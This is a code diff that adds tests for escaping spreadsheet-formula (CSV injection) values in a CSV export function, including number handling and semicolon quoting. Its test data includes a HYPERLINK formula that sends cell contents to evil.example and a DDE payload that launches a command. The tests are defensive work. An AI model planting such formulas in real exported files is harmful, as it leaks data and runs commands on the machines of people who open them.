@@ -32,6 +32,44 @@ describe("csvField", () => {
   });
 });
 
+// Issue 31: uploaded names, tool names and responses reached spreadsheets as formulas.
+describe("csvField and spreadsheet formulas (OWASP CSV injection)", () => {
+  it.each([
+    ["a transcript name", '=HYPERLINK("https://evil.example/?d="&A1,"open")', `"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`],
+    ["a tool name", "=1+2", `"'=1+2"`],
+    ["a response", "@SUM(1)", `"'@SUM(1)"`],
+    ["a plus", "+1+2", `"'+1+2"`],
+    ["a minus", "-2+3", `"'-2+3"`],
+    ["a command", "-cmd|' /C calc'!A0", `"'-cmd|' /C calc'!A0"`],
+    ["a tab", "\t=1+2", `"'\t=1+2"`],
+    ["a carriage return", "\r=1+2", `"'\r=1+2"`],
+    ["a NUL", "\u0000=1+2", `"'\u0000=1+2"`],
+    ["a lone equals sign", "=", `"'="`],
+    ["a word after a minus", "-Infinity", `"'-Infinity"`],
+  ])("escapes %s with a quote mark, in a quoted field", (_, value, field) => {
+    expect(csvField(value)).toBe(field);
+    // Read back, the cell is the text with its quote mark: a spreadsheet shows it as text.
+    expect(parseCsv(`${field}\r\n`)).toEqual([[`'${value}`]]);
+  });
+
+  it("keeps numbers numbers, written as numbers or as text", () => {
+    for (const number of [-1.5, -0, -1e-7, -42, 1e21]) expect(csvField(number)).toBe(String(number));
+    for (const text of ["-1.5", "+3", "-.5", "+1e5", "-2E-3", "-1.", "1e21"]) expect(csvField(text)).toBe(text);
+  });
+
+  it("leaves formula characters alone after the first one", () => {
+    expect(csvField("get_weather=1")).toBe("get_weather=1");
+    expect(csvField("a@b.example")).toBe("a@b.example");
+    expect(csvField(" =1+2")).toBe(" =1+2");
+  });
+
+  it("quotes a field with a semicolon, which some spreadsheets read as the separator", () => {
+    // Unquoted, "a;=1+2" would open as two cells, the second a formula.
+    expect(csvField("a;=1+2")).toBe('"a;=1+2"');
+    expect(parseCsv(csvRecord(["a;=1+2", "b"]))).toEqual([["a;=1+2", "b"]]);
+  });
+});
+
 describe("csvRecord", () => {
   it("joins fields with commas and ends with CRLF", () => {
     expect(csvRecord(["a", 1, null, true])).toBe("a,1,,true\r\n");
